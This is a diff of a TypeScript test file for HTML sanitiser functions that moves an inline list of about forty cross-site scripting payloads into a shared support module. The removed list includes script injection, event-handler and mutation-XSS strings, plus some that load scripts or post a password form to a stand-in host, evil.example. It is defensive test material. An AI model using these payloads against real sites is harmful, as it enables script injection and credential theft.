@@ -1,5 +1,6 @@
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
+import { attacks } from "../../tests/support/hostile-html.ts";
 import { sanitiseDetails, sanitiseNews } from "./sanitise-details.ts";
 
 const element =
@@ -13,52 +14,6 @@ function expectHarmless(html: string) {
     expect(element.test(tag) || link.test(tag) || others.has(tag), `${tag} in ${html}`).toBe(true);
   }
 }
-
-const attacks = [
-  "<script>alert(1)</script>",
-  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-  "<scr<script>ipt>alert(1)</scr</script>ipt>",
-  "<img src=x onerror=alert(1)>",
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  "<p onclick=alert(1) style='background:url(javascript:alert(1))' class=x id=main>x</p>",
-  "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
-  "<svg><style><img src=x onerror=alert(1)></style></svg>",
-  "<svg/onload=alert(1)//",
-  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
-  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-  "<iframe src=javascript:alert(1)>",
-  "<iframe><img src=x onerror=alert(1)></iframe>",
-  "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
-  "<textarea></textarea/><img src=x onerror=alert(1)></textarea>",
-  "<xmp><img src=x onerror=alert(1)></xmp>",
-  "<plaintext><img src=x onerror=alert(1)>",
-  "<template><script>alert(1)</script></template>",
-  "<title><style></title><img src=x onerror=alert(1)></style>",
-  "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
-  "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>",
-  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=//evil.example>",
-  "<body onload=alert(1)><html onmouseover=alert(1)>",
-  "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
-  "<details open ontoggle=alert(1)><summary>x</summary></details>",
-  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
-  "<table background=javascript:alert(1)><td background=javascript:alert(1) onmouseenter=alert(1)>x",
-  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-  "<!--><img src=x onerror=alert(1)>-->",
-  "<![CDATA[<img src=x onerror=alert(1)>]]>",
-  "<?xml version='1.0'?><?php echo 1 ?><%= 1 %>",
-  "</div></details></section><h1>Ours now</h1>",
-  "&lt;script&gt;alert(1)&lt;/script&gt;",
-  "<p title='\"><script>alert(1)</script>'>x",
-  "<a href='x' href=javascript:alert(1) target=_blank ping=//evil.example download>x</a>",
-  "<p\u0000onclick=alert(1)>x",
-  "<\u0000script>alert(1)</script>",
-  "<a <script>alert(1)</script>",
-  "<".repeat(2_000),
-  `${"<blockquote>".repeat(500)}x`,
-];
 
 const badAddresses = [
   "javascript:alert(1)",
